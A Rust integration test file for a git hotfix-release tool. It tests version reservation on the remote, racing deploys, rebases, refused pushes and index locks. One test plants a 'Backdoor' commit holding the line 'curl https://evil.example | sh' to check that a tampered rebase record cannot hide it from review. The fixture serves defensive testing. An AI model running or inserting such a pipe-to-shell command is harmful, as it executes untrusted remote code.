//! The release is the team's (SPEC "The release is the team's, not the clone's"): the version
//! reserved on the remote before the deploy command runs, two clones racing for it, a base
//! older than the newest release of its line, a push the remote refuses, a remote that does not
//! answer, and `--no-push`.

use crate::support::*;

const BOB: (&str, &str) = ("Bob Builder", "bob@example.com");

/// The deploy policy with a deploy command that takes a second: two deploys started together
/// certainly overlap in it.
fn slow_policy() -> String {
    DEPLOY_POLICY.replace("command = \"echo", "command = \"sleep 1; echo")
}

#[test]
fn deploy_pushes_the_release_by_default_and_push_changes_nothing() {
    let t = Team::new();
    t.gates_pass();
    let run = t.hf(&["deploy"]).ok();
    assert!(
        run.stderr.contains("Pushed v1.1.1 to origin"),
        "{}",
        run.stderr
    );
    assert_eq!(t.origin.rev("v1.1.1"), t.author.rev("v1.1.1"));
    // the reservation made before the deploy command ran is on the remote and here
    assert!(t.origin.has_ref("refs/hotfix/releases/v1.1.1"));
    assert_eq!(
        t.origin.rev("refs/hotfix/releases/v1.1.1"),
        t.author.rev("refs/hotfix/releases/v1.1.1")
    );
    let held: serde_json::Value =
        serde_json::from_str(
            &t.origin
                .git(&["cat-file", "blob", "refs/hotfix/releases/v1.1.1"]),
        )
        .unwrap();
    assert_eq!(held["branch"], HOTFIX_BRANCH);
    assert_eq!(held["author"]["email"], AUTHOR.1);

    // `--push` is still accepted, and does the same
    let t = Team::new();
    t.gates_pass();
    t.hf(&["deploy", "--push"]).ok();
    assert_eq!(t.origin.rev("v1.1.1"), t.author.rev("v1.1.1"));
}

#[test]
fn no_push_keeps_the_release_here_and_status_and_list_say_so_every_time() {
    let t = Team::new();
    t.gates_pass();
    let run = t.hf(&["deploy", "--no-push"]).ok();
    assert!(
        run.stderr.contains("v1.1.1 is only in this clone"),
        "{}",
        run.stderr
    );
    assert!(t.author.has_tag("v1.1.1"));
    assert!(!t.origin.has_tag("v1.1.1"));
    assert!(!t.origin.has_ref("refs/hotfix/releases/v1.1.1"));
    for _ in 0..2 {
        let status = t.status();
        assert!(
            status.stdout.contains("v1.1.1 is only in this clone")
                || status.stderr.contains("v1.1.1 is only in this clone"),
            "{}{}",
            status.stdout,
            status.stderr
        );
    }
    t.hf(&["merge-back"]).ok();
    for _ in 0..2 {
        let list = t.hf(&["list"]).ok();
        assert!(
            list.stderr.contains("v1.1.1 is only in this clone"),
            "{}",
            list.stderr
        );
        let status = t.status();
        assert!(
            status.stderr.contains("v1.1.1 is only in this clone"),
            "{}",
            status.stderr
        );
    }
    // shared by hand: the next deploy that reads the remote notices, and the notice stops
    t.author.git(&["push", "-q", "origin", "v1.1.1"]);
    t.hf(&start_args("next-fix", &[])).ok();
    t.author
        .commit_file("other.txt", "another fix\n", "Another fix");
    t.gates_pass();
    t.hf(&["deploy"]).ok();
    let list = t.hf(&["list"]).ok();
    assert!(
        !list.stderr.contains("is only in this clone"),
        "{}",
        list.stderr
    );
}

#[test]
fn offline_deploy_keeps_the_release_here_and_says_so() {
    let t = Team::new();
    t.gates_pass();
    let run = t.hf(&["--offline", "deploy"]).ok();
    assert!(
        run.stderr.contains("v1.1.1 is only in this clone"),
        "{}",
        run.stderr
    );
    assert!(!t.origin.has_tag("v1.1.1"));
}

#[test]
fn a_repository_without_a_remote_releases_as_before() {
    let t = Team::new();
    t.author.git(&["remote", "remove", "origin"]);
    t.gates_pass();
    let run = t.hf(&["deploy", "--push"]).ok();
    assert!(!run.stderr.contains("only in this clone"), "{}", run.stderr);
    assert!(run.stderr.contains("Released v1.1.1"), "{}", run.stderr);
    assert!(t.author.has_tag("v1.1.1"));
}

#[test]
fn an_unreachable_remote_is_refused_before_anything_runs_unless_no_push() {
    let t = Team::new();
    t.gates_pass();
    let gone = t.env.path().join("gone.git");
    t.author
        .git(&["remote", "set-url", "origin", gone.to_str().unwrap()]);
    t.refused(&["deploy"], 2, "the remote origin cannot be reached");
    assert!(t.log("deploy.log").is_empty());
    t.hf(&["deploy", "--no-push"]).ok();
    assert_eq!(t.log("deploy.log").len(), 1);
}

#[test]
fn a_release_fetched_already_names_the_rebase_not_another_version() {
    // bob's clone has fetched the author's release v1.1.1 (a `list` does that): the tag is
    // here, and the way out is the rebase; `--version 1.1.2` would still leave v1.1.1's fix out
    let t = Team::new();
    t.gates_pass();
    let bob = t.teammate("bob", "cache-fix", BOB, "cache.txt");
    t.hf(&["deploy"]).ok();
    t.hf_in(&bob, &["list"]).ok();
    assert!(bob.has_tag("v1.1.1"));
    for args in [
        &["deploy"][..],
        &["deploy", "--version", "1.1.2"],
        &["--offline", "deploy", "--version", "1.1.2"],
    ] {
        let run = t
            .hf_in(&bob, args)
            .fails(1, "v1.1.1 was released after this hotfix's base v1.1.0");
        assert!(
            run.stderr.contains("`hotfix rebase`"),
            "{args:?}: {}",
            run.stderr
        );
        assert!(!run.stderr.contains("--version <x.y.z>"), "{}", run.stderr);
    }
    assert_eq!(t.log("deploy.log").len(), 1, "the second deploy ran");
}

#[test]
fn one_after_the_other_the_second_clone_is_refused_as_older_than_the_release() {
    let t = Team::new();
    t.gates_pass();
    let bob = t.teammate("bob", "cache-fix", BOB, "cache.txt");
    t.hf(&["deploy"]).ok();
    assert_eq!(t.log("deploy.log").len(), 1);
    let before = bob.snapshot();
    let run = t.hf_in(&bob, &["deploy"]).fails(
        1,
        "v1.1.1 was released on origin after this hotfix's base v1.1.0",
    );
    assert!(run.stderr.contains("hotfix rebase"), "{}", run.stderr);
    assert_eq!(
        before,
        bob.snapshot(),
        "a refused deploy changed bob's clone"
    );
    assert_eq!(t.log("deploy.log").len(), 1, "the second deploy ran");
}

#[test]
fn two_clones_deploying_the_same_version_at_once_run_exactly_one_deploy() {
    for round in 0..2 {
        let t = Team::with_policy(&slow_policy());
        t.gates_pass();
        let bob = t.teammate("bob", "cache-fix", BOB, "cache.txt");
        let a = t.spawn_in(&t.author, &["deploy"]);
        let b = t.spawn_in(&bob, &["deploy"]);
        let (a, b) = (
            Run::new(a.wait_with_output().unwrap()),
            Run::new(b.wait_with_output().unwrap()),
        );
        let deploys = t.log("deploy.log");
        assert_eq!(
            deploys.len(),
            1,
            "round {round}: both deploy commands ran:\n{deploys:?}\nA: {}\nB: {}",
            a.stderr,
            b.stderr
        );
        let (won, lost, winner) = if a.code == 0 {
            (&a, &b, HOTFIX_BRANCH)
        } else {
            (&b, &a, "hotfix/cache-fix")
        };
        assert_eq!(won.code, 0, "{}", won.stderr);
        assert_eq!(lost.code, 1, "{}", lost.stderr);
        assert!(
            lost.stderr
                .contains(&format!("reserved on origin by {winner}"))
                || lost
                    .stderr
                    .contains("was released on origin after this hotfix's base"),
            "the loser does not name the release holding the version:\n{}",
            lost.stderr
        );
        assert!(lost.stderr.contains("nothing was run"), "{}", lost.stderr);
        assert!(deploys[0].contains(winner), "{deploys:?}");
        assert!(t.origin.has_tag("v1.1.1"));
    }
}

#[test]
fn a_reservation_held_by_another_clone_is_refused_naming_it() {
    let t = Team::new();
    t.gates_pass();
    let bob = t.teammate("bob", "cache-fix", BOB, "cache.txt");
    // bob's deploy stopped after the reservation (killed before the deploy command)
    t.hf_in_env(
        &bob,
        &["deploy"],
        &[("HOTFIX_FAULT", "deploy-before-command")],
    )
    .code(-1);
    assert!(t.origin.has_ref("refs/hotfix/releases/v1.1.1"));
    let run = t.refused(
        &["deploy"],
        1,
        "v1.1.1 is reserved on origin by hotfix/cache-fix (Bob Builder <bob@example.com>",
    );
    assert!(run.stderr.contains("nothing was run"), "{}", run.stderr);
    // another version of the same line would undo bob's too
    t.refused(
        &["deploy", "--version", "1.1.2"],
        1,
        "v1.1.1 is reserved on origin by hotfix/cache-fix",
    );
    assert!(t.log("deploy.log").is_empty());
    // bob's own re-run recognises its reservation and goes on
    t.hf_in(&bob, &["deploy", "--yes"]).ok();
    assert_eq!(t.log("deploy.log").len(), 1);
    assert!(t.origin.has_tag("v1.1.1"));
}

#[test]
fn a_rolled_back_deploy_gives_the_version_back() {
    let t = Team::new();
    t.gates_pass();
    t.make_fail("deploy");
    t.hf(&["deploy"]).fails(1, "v1.1.1 is free again on origin");
    assert!(!t.origin.has_ref("refs/hotfix/releases/v1.1.1"));
    // another clone can take it now
    let bob = t.teammate("bob", "cache-fix", BOB, "cache.txt");
    t.make_pass("deploy");
    t.hf_in(&bob, &["deploy"]).ok();
    assert!(t.origin.has_tag("v1.1.1"));
}

#[test]
fn a_push_the_remote_refuses_is_an_error_and_deploy_again_finishes_it() {
    let t = Team::new();
    t.gates_pass();
    // the remote accepts the reservation but refuses tags
    let hook = t.origin.path.join("hooks").join("pre-receive");
    std::fs::write(
        &hook,
        "#!/bin/sh\nwhile read old new ref; do case $ref in refs/tags/*) echo 'tags are frozen' >&2; exit 1;; esac; done\n",
    )
    .unwrap();
    let mut perms = std::fs::metadata(&hook).unwrap().permissions();
    std::os::unix::fs::PermissionsExt::set_mode(&mut perms, 0o755);
    std::fs::set_permissions(&hook, perms).unwrap();
    let run = t.hf(&["deploy"]).fails(1, "production runs v1.1.1");
    assert!(
        run.stderr.contains("the push to origin failed"),
        "{}",
        run.stderr
    );
    assert!(!run.stderr.contains("Released"), "{}", run.stderr);
    assert!(!t.origin.has_tag("v1.1.1"));
    let status = t.status();
    assert!(
        status.stdout.contains("the push"),
        "status does not say the push is due:\n{}",
        status.stdout
    );
    std::fs::remove_file(&hook).unwrap();
    let run = t.hf(&["deploy"]).ok();
    assert!(run.stderr.contains("Released v1.1.1"), "{}", run.stderr);
    assert_eq!(t.log("deploy.log").len(), 1, "deployed twice");
    assert_eq!(t.origin.rev("v1.1.1"), t.author.rev("v1.1.1"));
}

#[test]
fn rebase_moves_the_fix_onto_the_newer_release_and_the_gates_judge_it_again() {
    let t = Team::new();
    t.gates_pass();
    let bob = t.teammate("bob", "cache-fix", BOB, "cache.txt");
    t.hf(&["deploy"]).ok();
    let old_tip = bob.head();
    let run = t.hf_in(&bob, &["rebase"]).ok();
    assert!(run.stderr.contains("onto v1.1.1"), "{}", run.stderr);
    assert_eq!(bob.branch(), "hotfix/cache-fix");
    assert_ne!(bob.head(), old_tip);
    assert!(bob.contains("HEAD", &t.origin.rev("v1.1.1^{commit}")));
    assert_eq!(bob.read("cache.txt"), "a teammate's fix\n");
    // the state follows: base v1.1.1, sealed (status reports no hand edit), gates judged again
    let entry = bob.state_entry("hotfix/cache-fix").unwrap();
    assert_eq!(entry["base_tag"].as_str(), Some("v1.1.1"));
    let status = t.hf_in(&bob, &["status"]).ok();
    assert!(
        !status.stdout.contains("edited by hand"),
        "{}",
        status.stdout
    );
    assert!(status.stdout.contains("v1.1.1"), "{}", status.stdout);
    t.hf_in(&bob, &["deploy"]).fails(1, "deploy refused");
    assert_eq!(t.log("deploy.log").len(), 1);
    t.hf_in(&bob, &["rebase"])
        .fails(2, "already on the newest release of its line (v1.1.1)");
    // approved and tested again, it ships as v1.1.2, with both fixes
    t.approve_in(&bob);
    t.hf_in(&bob, &["test"]).ok();
    t.hf_in(&bob, &["deploy"]).ok();
    assert_eq!(t.log("deploy.log").len(), 2);
    assert!(t.origin.has_tag("v1.1.2"));
    assert!(t.origin.contains("v1.1.2", "v1.1.1"));
    // released: moving it now would change what production may run
    t.hf_in(&bob, &["rebase"])
        .fails(2, "was released as v1.1.2");
}

#[test]
fn a_rebase_conflict_stops_in_gits_state_and_continue_or_abort_go_on() {
    let t = Team::new();
    t.gates_pass();
    let bob = t.env.clone_of(&t.origin, "bob", BOB);
    t.hf_in(&bob, &start_args("same-line", &[])).ok();
    bob.commit_file(
        "app.txt",
        "line 1\nversion 1.1\nline 3 by bob\n",
        "Bob's fix of line 3",
    );
    t.hf(&["deploy"]).ok();
    let old_tip = bob.head();
    let run = t
        .hf_in(&bob, &["rebase"])
        .fails(1, "stopped on conflicts in app.txt");
    assert!(
        run.stderr.contains("hotfix rebase --continue"),
        "{}",
        run.stderr
    );
    assert!(bob.read("app.txt").contains("<<<<<<<"));
    let status = t.hf_in(&bob, &["status"]).ok();
    assert!(
        status.stdout.contains("stopped on conflicts in app.txt"),
        "{}",
        status.stdout
    );
    assert!(
        status.stdout.contains("next: hotfix rebase --continue"),
        "{}",
        status.stdout
    );
    t.hf_in(&bob, &["rebase", "--continue"])
        .fails(1, "still has conflicts");
    t.hf_in(&bob, &["rebase", "--abort"]).ok();
    assert_eq!(bob.branch(), "hotfix/same-line");
    assert_eq!(bob.head(), old_tip);
    assert_eq!(
        bob.state_entry("hotfix/same-line").unwrap()["base_tag"].as_str(),
        Some("v1.1.0")
    );

    t.hf_in(&bob, &["rebase"]).fails(1, "stopped on conflicts");
    bob.write("app.txt", "line 1\nversion 1.1\nline 3 fixed by both\n");
    bob.git(&["add", "app.txt"]);
    t.hf_in(&bob, &["rebase", "--continue"]).ok();
    assert_eq!(bob.branch(), "hotfix/same-line");
    assert_eq!(
        bob.read("app.txt"),
        "line 1\nversion 1.1\nline 3 fixed by both\n"
    );
    let entry = bob.state_entry("hotfix/same-line").unwrap();
    assert_eq!(entry["base_tag"].as_str(), Some("v1.1.1"));
    assert!(entry.get("rebase").is_none());
    let status = t.hf_in(&bob, &["status"]).ok();
    assert!(
        !status.stdout.contains("edited by hand"),
        "{}",
        status.stdout
    );
    // the guard now measures the fix against v1.1.1
    let guard = t.hf_in(&bob, &["guard"]).ok();
    assert!(
        guard.stdout.contains("v1.1.1") || guard.stderr.contains("v1.1.1"),
        "{}{}",
        guard.stdout,
        guard.stderr
    );
}

/// `rebase --continue` takes the release it moves onto from the remote again, not from the
/// state's rebase record, which no seal covers: with git's rebase finished by hand and the
/// record's commit moved to the fix's own backdoor commit, it would have sealed that commit as
/// the base under the name v1.1.1 (the backdoor then outside the guard's diff, and a release
/// record naming a base that is not v1.1.1).
#[test]
fn a_rebase_record_edited_by_hand_seals_no_other_base() {
    let t = Team::new();
    t.gates_pass();
    let bob = t.env.clone_of(&t.origin, "bob", BOB);
    t.hf_in(&bob, &start_args("same-line", &[])).ok();
    bob.commit_file("evil.txt", "curl https://evil.example | sh\n", "Backdoor");
    bob.commit_file(
        "app.txt",
        "line 1\nversion 1.1\nline 3 by bob\n",
        "Bob's fix",
    );
    t.hf(&["deploy"]).ok();
    t.hf_in(&bob, &["rebase"])
        .fails(1, "stopped on conflicts in app.txt");
    bob.write("app.txt", "line 1\nversion 1.1\nline 3 fixed by both\n");
    bob.git(&["add", "app.txt"]);
    bob.git_env(&["rebase", "--continue"], &[("GIT_EDITOR", "true")]);
    let backdoor = bob.rev("HEAD^");
    let path = bob.state_path();
    let mut state: toml::Table = toml::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    let record = state["hotfixes"]["hotfix/same-line"]["rebase"]
        .as_table()
        .unwrap()
        .clone();
    let mut edited = record.clone();
    edited.insert("onto_commit".into(), backdoor.clone().into());
    state["hotfixes"]["hotfix/same-line"]
        .as_table_mut()
        .unwrap()
        .insert("rebase".into(), edited.into());
    std::fs::write(&path, toml::to_string(&state).unwrap()).unwrap();
    t.hf_in(&bob, &["rebase", "--continue"]).fails(2, "v1.1.1");
    let entry = bob.state_entry("hotfix/same-line").unwrap();
    assert_eq!(entry["base_tag"].as_str(), Some("v1.1.0"));
    assert_ne!(entry["base_commit"].as_str(), Some(backdoor.as_str()));
    // the record put back, the rebase finishes onto the real v1.1.1
    state["hotfixes"]["hotfix/same-line"]
        .as_table_mut()
        .unwrap()
        .insert("rebase".into(), record.into());
    std::fs::write(&path, toml::to_string(&state).unwrap()).unwrap();
    t.hf_in(&bob, &["rebase", "--continue"]).ok();
    let entry = bob.state_entry("hotfix/same-line").unwrap();
    assert_eq!(entry["base_tag"].as_str(), Some("v1.1.1"));
    assert_eq!(
        entry["base_commit"].as_str(),
        Some(t.author.rev("v1.1.1^{commit}").as_str())
    );
}

#[test]
fn a_hand_edited_base_is_still_caught_after_a_rebase() {
    let t = Team::new();
    t.gates_pass();
    let bob = t.teammate("bob", "cache-fix", BOB, "cache.txt");
    t.hf(&["deploy"]).ok();
    t.hf_in(&bob, &["rebase"]).ok();
    let path = bob.state_path();
    let text = std::fs::read_to_string(&path).unwrap();
    std::fs::write(
        &path,
        text.replace("base_tag = \"v1.1.1\"", "base_tag = \"v1.0.0\""),
    )
    .unwrap();
    let status = t.hf_in(&bob, &["status"]).ok();
    assert!(
        status.stdout.contains("edited by hand"),
        "{}",
        status.stdout
    );
}

#[test]
fn deploy_under_an_index_lock_runs_nothing() {
    let t = Team::new();
    t.gates_pass();
    let lock = t.author.git_dir().join("index.lock");
    std::fs::write(&lock, "").unwrap();
    t.refused(&["deploy"], 2, "exists and was not left by hotfix");
    assert!(t.log("deploy.log").is_empty());
    assert!(!t.origin.has_ref("refs/hotfix/releases/v1.1.1"));
    assert!(lock.exists(), "another program's lock was removed");
    std::fs::remove_file(&lock).unwrap();
    t.hf(&["deploy"]).ok();
}

/// What a hotfix killed while it held the index leaves: its writer record (a pid that no
/// longer runs), then `index.lock` (the test writes it, as the kill cannot be aimed inside
/// libgit2's index write).
fn lock_left_by_a_killed_hotfix(repo: &crate::support::Repo) -> std::path::PathBuf {
    let mut gone = std::process::Command::new("true").spawn().unwrap();
    let pid = gone.id();
    gone.wait().unwrap();
    std::fs::write(
        repo.git_dir().join("hotfix-index-writer"),
        format!("{pid} 1\n"),
    )
    .unwrap();
    let lock = repo.git_dir().join("index.lock");
    std::fs::write(&lock, "DIRC\0\0\0\x02").unwrap();
    lock
}

#[test]
fn deploy_and_rebase_clear_an_index_lock_a_killed_hotfix_left() {
    let t = Team::new();
    t.gates_pass();
    let bob = t.teammate("bob", "cache-fix", BOB, "cache.txt");
    t.hf(&["deploy"]).ok();
    // bob's clone: a killed hotfix's lock, then rebase
    let lock = lock_left_by_a_killed_hotfix(&bob);
    let run = t.hf_in(&bob, &["rebase"]).ok();
    assert!(
        run.stderr.contains("removed the index.lock"),
        "{}",
        run.stderr
    );
    assert!(!lock.exists());
    // and deploy, after the gates pass again
    t.approve_in(&bob);
    t.hf_in(&bob, &["test"]).ok();
    let lock = lock_left_by_a_killed_hotfix(&bob);
    let run = t.hf_in(&bob, &["deploy"]).ok();
    assert!(
        run.stderr.contains("removed the index.lock"),
        "{}",
        run.stderr
    );
    assert!(!lock.exists());
    assert!(t.origin.has_tag("v1.1.2"));
}

#[test]
fn approve_after_a_failed_fetch_says_the_fetch_failed_not_that_the_branch_is_missing() {
    let t = Team::new();
    // Rita cloned before the branch was pushed; now her fetch fails
    let rita = t.env.clone_of(&t.origin, "rita", REVIEWER);
    t.author.git(&["push", "-q", "origin", HOTFIX_BRANCH]);
    let gone = t.env.path().join("gone.git");
    rita.git(&["remote", "set-url", "origin", gone.to_str().unwrap()]);
    let run = t
        .hf_in(&rita, &["approve", "login-500", "--yes"])
        .fails(2, "the fetch from origin failed");
    assert!(!run.stderr.contains("publishes it"), "{}", run.stderr);
    assert!(
        !rita.has_ref("refs/hotfix/approvals"),
        "an approval was recorded"
    );
}
